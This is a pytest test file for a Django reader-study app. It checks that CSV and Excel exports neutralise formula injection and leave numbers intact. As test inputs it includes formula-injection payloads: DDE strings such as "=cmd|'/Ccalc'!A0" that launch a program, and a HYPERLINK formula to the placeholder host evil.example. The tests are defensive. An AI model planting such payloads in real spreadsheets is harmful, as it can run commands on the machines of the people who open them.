"""CSV / formula injection: no cell of a file people open in a spreadsheet starts a formula.

Import refuses ids that start with = + - @ (tests/security/test_bad_input.py); these tests feed such text in
through the doors that bypass it (usernames, modality keys, study names, rows written straight to the database)
and check every human-facing export, while numbers (also negative ones) stay numbers.
"""

import csv
import io
import zipfile

import pandas as pd
import pytest
from django.core.management import call_command
from django.db import transaction
from django.test import Client
from openpyxl import load_workbook

from readerstudy.core import audit
from readerstudy.core.models import AuditEvent
from readerstudy.csvsafe import safe_cell, safe_frame
from readerstudy.reading.actions import launch_study
from readerstudy.results import dictionary, formats
from readerstudy.results.models import Export
from readerstudy.results.table import reads_table, to_csv
from readerstudy.results.tasks import export_bytes
from readerstudy.studies import actions
from readerstudy.studies.models import Case, Patient
from tests.factories import balanced_rows, make_user, write_manifest

READER = "=cmd|'/Ccalc'!A0"  # Django's form validator would refuse it; createsuperuser --noinput, a shell do not
VALID_USERNAME = "@reader2"  # passes Django's username validator (letters, digits and @ . + - _)
CASE = "-2+3+cmd|'/Ccalc'!A0"
PATIENT = "@SUM(1+1)*cmd|'/Ccalc'!A0"
MODALITY = "+aided"
STUDY = '=HYPERLINK("http://evil.example/?x","click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number: a spreadsheet reads 1, nothing runs (import refuses it as an id anyway)
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("-0.5", "-0.5"),  # a plain number cannot be a formula
        ("+1e-3", "+1e-3"),
        (-0.5, -0.5),
        (-3, -3),
        (None, None),
        ("P001-L1", "P001-L1"),
        ("", ""),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_frame_leaves_numeric_columns_alone():
    df = pd.DataFrame({"reader": ["=a", "b"], "rating": [-0.5, 3.0], "n": [-1, 2], "ok": ["x", "y"]})
    out = safe_frame(df)
    assert list(out["reader"]) == ["'=a", "b"]
    assert out["rating"].tolist() == [-0.5, 3.0] and out["rating"].dtype == float
    assert out["n"].tolist() == [-1, 2] and out["ok"] is not df["ok"]
    assert list(df["reader"]) == ["=a", "b"]  # the input is not changed


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or _number(cell), (cell, row)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_pure_writers_neutralise_text_and_keep_negative_numbers():
    df = pd.DataFrame(
        {
            "reader": [READER, READER, "r2", "r2"],
            "modality": [MODALITY] * 4,
            "case": [CASE, "c2", CASE, "c2"],
            "patient": [PATIENT, "p2", PATIENT, "p2"],
            "truth": [1, 0, 1, 0],
            "rating": [-0.5, -2.25, 3.0, 1.5],
        }
    )
    reads = list(csv.reader(io.StringIO(to_csv(df))))
    assert_no_formula(reads)
    assert reads[1] == ["'" + READER, "'" + MODALITY, "'" + CASE, "'" + PATIENT, "1", "-0.5"]
    mrmcaov = list(csv.reader(io.StringIO(formats.write_mrmcaov_csv(df))))
    assert_no_formula(mrmcaov)
    assert ["'" + READER, "'" + MODALITY, "'" + CASE, "1", "-0.5", "'" + PATIENT] in mrmcaov
    assert_no_formula(list(csv.reader(io.StringIO(dictionary.dictionary_csv()))))


def test_jafroc_workbook_stores_text_never_formulas():
    df = pd.DataFrame(
        {
            "reader": ["=A1+1", "=A1+1", "r2", "r2"],
            "modality": ["=SUM(1)"] * 4,
            "case": ["c1", "c2", "c1", "c2"],
            "truth": [1, 0, 1, 0],
            "rating": [-0.5, 2.0, 3.0, 1.0],
        }
    )
    data = formats.write_jafroc(df)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets  # no formula elements at all
    wb = load_workbook(io.BytesIO(data))  # without data_only: a formula would come back as one
    values = [c for ws in wb for row in ws.iter_rows(values_only=True) for c in row]
    assert "=SUM(1)" in values and -0.5 in values  # the modality id as text
    assert "=A1+1" not in values  # readers are ReaderIDs 1..J; their names live in the workbook's id map only
    for ws in wb:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    back = formats.read_jafroc(data)  # ids reach RJafroc (and us) verbatim
    assert set(back["reader"]) == {"=A1+1", "r2"} and set(back["modality"]) == {"=SUM(1)"}


@pytest.fixture
def hostile_study(tmp_path, monkeypatch):
    """A launched study whose reader, modality, case and patient ids all start formulas (import bypassed)."""
    monkeypatch.setattr("django.db.transaction.on_commit", lambda func, using=None, robust=False: func())
    admin = make_user("admin", superuser=True)
    study = actions.create_study(admin, STUDY, seed=5, washout_days=0)
    actions.add_modality(admin, study, "unaided", "Unaided", shows_dl=False)
    actions.add_modality(admin, study, MODALITY, "=DL", shows_dl=True)
    for name in (READER, VALID_USERNAME):
        actions.add_member(admin, study, make_user(name), "reader")
    actions.add_member(admin, study, make_user("stat"), "statistician")
    actions.import_cases(admin, study, write_manifest(tmp_path / "import", balanced_rows(4, 1)))
    Case.objects.filter(study=study, case_id="P001-L1").update(case_id=CASE)  # straight into the database
    Patient.objects.filter(study=study, pseudonym="P001").update(pseudonym=PATIENT)
    launch_study(admin, study, accept_missing_predictions=True)
    actions.set_interim_analysis(admin, study, allowed=True)  # the statistician's exports while it runs
    call_command("simulate_reads", study.name, "--no-progress", "--seed", "3")
    return study


@pytest.mark.django_db
def test_every_human_facing_export_neutralises_hostile_ids(hostile_study):
    table = reads_table(hostile_study)
    assert {READER, MODALITY, CASE, PATIENT} <= set(table[["reader", "modality", "case", "patient"]].values.ravel())

    _, content = export_bytes(Export.Kind.CSV, hostile_study.name, table)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        reads_text = z.read("reads.csv").decode()
        reads = list(csv.reader(io.StringIO(reads_text)))
        assert_no_formula(list(csv.reader(io.StringIO(z.read("data_dictionary.csv").decode()))))
    assert_no_formula(reads)
    cells = {c for row in reads for c in row}
    assert {"'" + READER, "'" + VALID_USERNAME, "'" + MODALITY, "'" + CASE, "'" + PATIENT} <= cells
    # numbers are untouched: ratings, diameters and probabilities read back as numbers
    parsed = pd.read_csv(io.StringIO(reads_text))
    assert all(pd.api.types.is_numeric_dtype(parsed[c]) for c in ("rating", "diameter_mm", "active_seconds"))

    _, content = export_bytes(Export.Kind.MRMCAOV, hostile_study.name, table)
    mrmcaov = list(csv.reader(io.StringIO(content.decode())))
    assert_no_formula(mrmcaov)
    assert {"'" + READER, "'" + MODALITY, "'" + CASE, "'" + PATIENT} <= {c for row in mrmcaov for c in row}

    _, content = export_bytes(Export.Kind.JAFROC, hostile_study.name, table)
    wb = load_workbook(io.BytesIO(content))
    assert all(cell.data_type != "f" for ws in wb for row in ws.iter_rows() for cell in row)


@pytest.mark.django_db
def test_reads_csv_download_through_the_web_is_neutralised(hostile_study):
    client = Client()
    client.force_login(make_user("stat"))
    response = client.post(f"/results/study/{hostile_study.pk}/", {"export": "csv"})
    assert response.status_code == 302
    job = Export.objects.filter(study=hostile_study, kind="csv").latest("created_at")
    assert job.status == "done", job.message
    content = b"".join(client.get(f"/results/export/{job.pk}/download").streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        text = z.read("reads.csv").decode()
    reads = pd.read_csv(io.StringIO(text), dtype={"reader": str, "case": str, "patient": str})
    assert "'" + READER in set(reads["reader"]) and "'" + CASE in set(reads["case"])
    assert pd.api.types.is_numeric_dtype(reads["rating"]) and pd.api.types.is_numeric_dtype(reads["diameter_mm"])
    assert_no_formula(list(csv.reader(io.StringIO(text))))


@pytest.mark.django_db
def test_audit_csv_export_neutralises_usernames_and_study_names(hostile_study):
    admin = Client()
    admin.force_login(make_user("admin", superuser=True))
    reader = make_user(READER)
    with transaction.atomic():  # through the chain, as every event is written
        audit.append(AuditEvent(actor=reader, study=hostile_study, verb="=evil", object_type="+x", object_id="@1"))
    ids = list(AuditEvent.objects.values_list("pk", flat=True))
    response = admin.post("/admin/core/auditevent/", {"action": "export_csv", "_selected_action": ids})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == len(ids) + 1
    assert_no_formula(rows)
    cells = {c for row in rows for c in row}
    assert {"'" + READER, "'" + STUDY, "'=evil", "'+x", "'@1"} <= cells
